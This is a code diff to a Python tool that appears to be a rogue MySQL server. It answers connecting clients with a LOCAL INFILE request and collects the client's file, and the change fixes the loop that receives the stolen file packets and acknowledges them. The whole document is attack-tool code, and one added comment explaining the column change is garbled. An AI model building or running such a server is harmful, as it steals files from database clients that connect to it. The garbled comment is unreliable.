@@ -20,7 +20,8 @@ def lenenc(data):
 
 def column(name, kind=253, flags=0, charset=45, decimals=0, length=1024):
     fixed = b"\x0c" + struct.pack("<HIBHB", charset, length, kind, flags, decimals) + b"\0\0"
-    return b"\x03def" + lenenc(b"") * 3 + lenenc(name) + lenenc(name) + fixed
+    # libmysqlclient takes the length bytes of org_name, but for one, for the end of the name (unpack_field)
+    return b"\x03def" + lenenc(b"") * 3 + lenenc(name) + lenenc(name[:64]) + fixed
 
 
 class RogueServer:
@@ -108,9 +109,11 @@ class RogueServer:
             packets = self._answer(payload[1:]) if payload[:1] == b"\x03" or self._answers_all else [OK]
         self._send(client, sequence + 1, packets)
         if packets[0][:1] == b"\xfb":  # the client's file, up to an empty packet
-            while self._receive(client)[1]:
-                continue
-            self._send(client, 3, [OK])
+            while True:
+                sequence, payload = self._receive(client)
+                if not payload:
+                    break
+            self._send(client, sequence + 1, [OK])
 
     def _receive(self, client):
         head = self._read(client, 4)
